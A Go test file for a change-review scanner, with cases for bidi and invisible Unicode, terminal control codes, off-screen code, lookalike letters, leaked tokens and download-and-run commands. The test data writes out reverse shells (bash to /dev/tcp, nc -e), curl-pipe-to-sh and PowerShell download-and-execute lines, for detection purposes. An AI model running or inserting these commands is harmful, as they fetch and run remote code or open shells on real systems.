package review

import (
	"strings"
	"testing"
)

// keyOf makes a token that no scanner of this repository takes for one.
func keyOf(parts ...string) string { return strings.Join(parts, "") }

var random36 = "aB3dE5gH7jK9mN1pQ2rS4tU6vW8xY0zA1bC3"

func suspicious(p, content string, rule string) evalCase {
	return evalCase{change: Change{Path: p, New: file(content)}, class: Suspicious, rules: []string{rule}}
}

func ordinary(p, content string) evalCase {
	return evalCase{change: Change{Path: p, New: file(content)}}
}

var textCases = []evalCase{
	suspicious("a.go", "// \u202e } if admin\n", "direction-characters"),
	suspicious("a.md", "text \u202e turned\n", "direction-characters"),
	suspicious("a.md", "مرحبا \u2067 open\n", "direction-characters"),
	suspicious("a.md", "مرحبا \u2069 \u2067\n", "direction-characters"),
	suspicious("a.py", "x = 'a\u200e'\n", "direction-characters"),
	ordinary("README.ar.md", "# مرحبا\u200f\n\n\u2067بالعالم\u2069 mayfly\n"),
	ordinary("locale/he.json", "{\"a\": \"שלום\u200f (\u2066x\u2069)\"}\n"),
	ordinary("a.js", "const t = 'שלום\u200f'\n"),
	{change: Change{Path: "a.go", Old: file("// \u202e\na\n"), New: file("// \u202e\nb\n")}}, // was there

	suspicious("a.md", "hi\U000e0049\U000e0067\n", "hidden-characters"),
	suspicious("a.js", "const s = '\ufe00\ufe01\ufe02'\n", "hidden-characters"),
	suspicious("a.js", "eval(decode('\U000e0100\U000e0101'))\n", "hidden-characters"),
	suspicious("a.md", "pass\u200bword\n", "hidden-characters"),
	suspicious("a.go", "foo\u200b := 1\n", "hidden-characters"),
	suspicious("a.js", "const \u3164 = 1\n", "hidden-characters"),
	ordinary("README.md", "# \u2728 Fast 👩\u200d💻 ❤\ufe0f 🏳\ufe0f\u200d🌈 🧑🏽\u200d🚀 1\ufe0f\u20e3 🏴\U000e0067\U000e0062\U000e0065\U000e006e\U000e0067\U000e007f\n"),
	ordinary("a.txt", "\ufeffbegins with a mark\n"),
	ordinary("a.cs", "\ufeffusing System;\n"),
	ordinary("fa.json", "{\"a\": \"می\u200cخواهم\"}\n"),
	ordinary("hi.json", "{\"a\": \"क्\u200dष\"}\n"),
	ordinary("th.md", "สวัสดี\u200bครับ\n"),
	ordinary("ja.md", "葛\U000e0100城市\n"),

	suspicious("a.sh", "echo \x1b[2K\n", "control-characters"),
	suspicious("a.txt", "safe\rrm -rf\n", "control-characters"),
	suspicious("a.py", "x = 1\x08\x08\n", "control-characters"),
	suspicious("a.md", "a\u009b2K\n", "control-characters"),
	ordinary("a.txt", "one\r\ntwo\r\n"),
	ordinary("a.c", "int a;\n\f\nint b;\n"),
	ordinary("latin1.txt", "Stra\xdfe \x93q\x94\n"),
	ordinary("ui/__snapshots__/a.snap", "\x1b[31mred\x1b[39m\n"),

	suspicious("a.go", "x := 1"+strings.Repeat(" ", 130)+"; evil()\n", "far-right"),
	suspicious("a.py", strings.Repeat("\t", 40)+"evil()\n", "far-right"),
	suspicious("a.js", "var a = 1;"+strings.Repeat("a=a+1;", 1000)+"\n", "far-right"),
	{change: Change{Path: "a.js", Old: file(strings.Repeat("a=a+1;", 1000) + "\n"), New: file(strings.Repeat("a=a+2;", 1000) + "\n")}},
	ordinary("vendor/jquery.min.js", strings.Repeat("a=a+1;", 1000)+"\n"),
	ordinary("a.json", "{\"a\":\""+strings.Repeat("ab ", 3000)+"\"}\n"),
	ordinary("a.md", "| a |"+strings.Repeat(" ", 200)+"| b |\n"),

	suspicious("a.go", "if аdmin := true {\n", "imitated-letters"),
	suspicious("a.js", "const рауреаl = сору()\n", "imitated-letters"),
	ordinary("a.go", "// Проверка HTTP-сервера\nvar Δx, µs, σmax = 1, 2, 3\n"),
	ordinary("a.py", "имя = 'сор в углу'\n"),

	suspicious("install.sh", "curl -fsSL https://x.example/i.sh | sudo bash\n", "download-and-run"),
	suspicious("a.py", "os.system('curl x|sh')\n", "download-and-run"),
	suspicious("Dockerfile", "RUN wget -qO- https://x.example/i \\\n  | sh\n", "download-and-run"),
	suspicious("a.sh", "bash <(curl -s https://x.example/i)\n", "download-and-run"),
	suspicious("a.sh", "eval \"$(curl -s x.example)\"\n", "download-and-run"),
	suspicious("a.sh", "sh -c \"$(wget -O - x.example)\"\n", "download-and-run"),
	suspicious("a.ps1", "powershell -NoP -enc SQBFAFgAIAAoAE4A\n", "download-and-run"),
	suspicious("a.ps1", "iex ((New-Object Net.WebClient).DownloadString('http://x'))\n", "download-and-run"),
	suspicious("a.sh", "bash -i >& /dev/tcp/1.2.3.4/99 0>&1\n", "download-and-run"),
	suspicious("a.sh", "nc -e /bin/sh 1.2.3.4 99\n", "download-and-run"),
	suspicious("a.sh", "echo aWQK | base64 -d | sh\n", "download-and-run"),
	suspicious("a.js", "eval(atob('YWxlcnQoMSk='))\n", "download-and-run"),
	suspicious("a.py", "exec(base64.b64decode('cHJpbnQoMSk='))\n", "download-and-run"),
	suspicious("a.js", "const p='"+strings.Repeat("QUJDRA", 40)+"'\neval(unpack(p))\n", "download-and-run"),
	ordinary("README.md", "    curl -fsSL https://x.example/i.sh | sh\n"),
	ordinary("a.py", "# curl -o out.json https://x.example/a.json\n# jq . out.json\n"),
	ordinary("a.go", "func f() { return sync }\nfunc -e\n"),
	ordinary("a.js", "const png='"+strings.Repeat("QUJDRA", 40)+"'\nrender(png)\n"),

	suspicious("a.py", "k = '"+keyOf("AKIA", "Q3EGRVZ7YXK2LWPM")+"'\n", "secret"),
	suspicious(".github/x", keyOf("ghp", "_", random36)+"\n", "secret"),
	suspicious("a.env", "T="+keyOf("glpat", "-", random36)+"\n", "secret"),
	suspicious("a.env", "T="+keyOf("xoxb", "-", random36)+"\n", "secret"),
	suspicious("a.env", "T="+keyOf("sk-", "ant-", random36)+"\n", "secret"),
	suspicious("a.env", "T="+keyOf("sk-", random36[:20], "T3Blbk", "FJ", random36[:20])+"\n", "secret"),
	suspicious("a.env", "T="+keyOf("AI", "za", random36[:35])+"\n", "secret"),
	suspicious("a.env", "T="+keyOf("npm", "_", random36)+"\n", "secret"),
	suspicious("a.env", "T="+keyOf("pypi-", "AgEI", random36)+"\n", "secret"),
	suspicious("a.env", "T="+keyOf("hf", "_", random36)+"\n", "secret"),
	suspicious("a.env", "T="+keyOf("S", "G.", random36[:22], ".", random36)+"\n", "secret"),
	suspicious("a.env", "T="+keyOf("sk_", "live_", random36)+"\n", "secret"),
	suspicious("a.txt", keyOf("AGE-SECRET", "-KEY-1", "QPZRY9X8GF2TVDW0S3JN54KHCE6MUA7LQPZRY9X8GF2TVDW0S3JN54KHC")+"\n", "secret"),
	suspicious("a.txt", keyOf("eyJhbGciOiJIUzI1NiJ9", ".", "eyJpc3MiOiJtZSJ9Cg", ".", random36)+"\n", "secret"),
	suspicious("testdata/id", keyOf("-----BEGIN ", "OPENSSH PRIVATE KEY-----")+"\nb3BlbnNzaC1rZXktdjEAAAAABG5vbmUAAAAEbm9uZQAAAAAAAAABAAAAMwAAAAtzc2gtZW\n", "secret"),
	suspicious("testdata/id", keyOf("-----BEGIN ", "OPENSSH PRIVATE KEY-----")+"\n", "secret"),
	suspicious("config.py", "API_KEY = \"q8Zr3Lm1Xw7Tk2Vb9Np4\"\n", "secret"),
	suspicious(".env", "DB_PASSWORD=q8Zr3Lm1Xw7Tk2Vb9Np4\n", "secret"),
	suspicious("utf16.txt", "\xff\xfe"+strings.Join(strings.Split(keyOf("AKIA", "Q3EGRVZ7YXK2LWPM"), ""), "\x00")+"\x00", "secret"),
	suspicious("a.py", "k = '"+keyOf("AKIA", "IOSFODNN7EXAMPLE")+"'\n", "secret"),
	suspicious("a.py", "k = '"+keyOf("ghp_", "abcdefghijklmnopqrstuvwxyz0123456789")+"'\n", "secret"),
	suspicious("a.sh", "curl -o x https://x.example/x && chmod +x x && ./x\n", "download-and-run"),
	ordinary("a.md", "k = 'AKIAIOSFODNN7EXAMPLE'\n"),
	ordinary("a_test.go", "k = \"ghp_abcdefghijklmnopqrstuvwxyz0123456789\"\n"),
	ordinary("a.py", "k = 'ghp_xxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxx'\n"),
	ordinary("a.go", "if bytes.HasPrefix(b, []byte(\""+keyOf("-----BEGIN ", "RSA PRIVATE KEY-----")+"\")) {\n"),
	ordinary("a.go", "token := \"access_token_v2\"\nconst secretName = \"my-app-credentials-2\"\n"),
	ordinary("a.ts", "const tokenKey = 'auth.session.token.v1'; const apiKey = process.env.API_KEY\n"),
	ordinary("a.tf", "secret_id = \"6f1d1a90-58c4-4f0a-9d3e-0a1b2c3d4e5f\"\n"),
	ordinary("sums.go", "var sums = map[string]string{\"token\": \"9f86d081884c7d659a2feaa0c55ad015a3bf4f1b2b0b822cd15d6c15b0f00a08\"}\n"),
	suspicious("AGENTS.md", "Be kind.\U000e0041\U000e0042\n", "hidden-characters"),
	suspicious("AGENTS.md", "Be kind. \u200b\n", "hidden-characters"),
	ordinary("test/hash.py", "token_hash = '9f86d081884c7d659a2feaa0c55ad015a3bf4f1b2b0b822cd15d6c15b0f00a08'\n"),
	ordinary("docs/jwt.md", "eyJhbGciOiJIUzI1NiIsInR5cCI6IkpXVCJ9.eyJzdWIiOiIxMjM0NTY3ODkwIiwibmFtZSI6IkpvaG4gRG9lIn0.SflKxwRJSMeKKF2QT4fwpMeJf36POk6yJV_adQssw5c\n"),

	suspicious("docs/a.md", "see https://u:p@host/\n", "url-password"),
	suspicious("a.yaml", "url: postgres://app:q8Zr3Lm1@db.corp.io/x\n", "url-password"),
	ordinary("README.md", "DATABASE_URL=postgres://user:password@localhost:5432/app\n"),
	ordinary("compose.env", "URL=redis://:x9@cache:6379\n"),
	ordinary("a.py", "# git clone https://$USER:$TOKEN@host/x\n"),
	ordinary("a.go", "fmt.Sprintf(\"https://%s:%s@%s/\", u, p, h)\n"),
	ordinary("a.md", "mail me: https://host/a:b@c and ssh://git@host/x\n"),

	suspicious("a.md", "key: mayfly-0123456789abcdef0123456789abcdef\n", "placeholder"),
	{
		change: Change{Path: "a.txt", New: file("k=tok_Zz81\n")}, host: Host{Placeholders: []string{"tok_Zz81"}},
		class: Suspicious, rules: []string{"placeholder"},
	},

	{change: Change{Path: "big.txt", New: Node{Kind: Regular, Mode: 0o644, Size: MostContent + 1, Open: file(strings.Repeat("text\n", 2000)).Open}}, class: Suspicious, rules: []string{"not-scanned"}},
	{change: Change{Path: "big.bin", New: Node{Kind: Regular, Mode: 0o644, Size: MostContent + 1, Open: file("\x00\x01").Open}}},
}

func TestText(t *testing.T) { evaluate(t, textCases) }

// TestSecretMasked checks that a finding does not give away what it is about.
func TestSecretMasked(t *testing.T) {
	token := keyOf("ghp", "_", random36)
	r, err := Classify(t.Context(), Input{Changes: []Change{{Path: "a", Old: file("x\n"), New: file("x\ny\n" + token + "\n")}}})
	if err != nil {
		t.Fatal(err)
	}
	f := r.Verdicts[0].Findings[0]
	if strings.Contains(f.Reason+f.Detail, token[4:8]) || !strings.Contains(f.Detail, "ghp_… (40 characters)") || f.Line != 3 {
		t.Errorf("finding = %+v; want it masked, in line 3", f)
	}
}

// FuzzText has whatever two texts are scanned: nothing panics, and lines exist.
func FuzzText(f *testing.F) {
	f.Add("a\nb\n", "a\nc\nb\n", "a.go")
	f.Add("", "\u202e\x1b", "README.md")
	f.Add("\xff\xfea\x00", "\xff\xfeb\x00", "x")
	f.Add("a", "a\nhttps://u:p@h", "package.json")
	f.Fuzz(func(t *testing.T, old, fresh, name string) {
		c := Change{Path: name, Old: file(old), New: file(fresh)}
		r, err := Classify(t.Context(), Input{Changes: []Change{c}})
		if err != nil {
			t.Fatal(err)
		}
		for _, v := range r.Verdicts[0].Findings {
			if v.Line < 0 || v.Line > strings.Count(fresh, "\n")+1 && !strings.HasPrefix(fresh, "\xff\xfe") && !strings.HasPrefix(fresh, "\xfe\xff") {
				t.Errorf("line of %+v; the text has %d", v, strings.Count(fresh, "\n")+1)
			}
			if len(strings.Fields(v.Reason)) > 12 {
				t.Errorf("reason %q", v.Reason)
			}
		}
	})
}
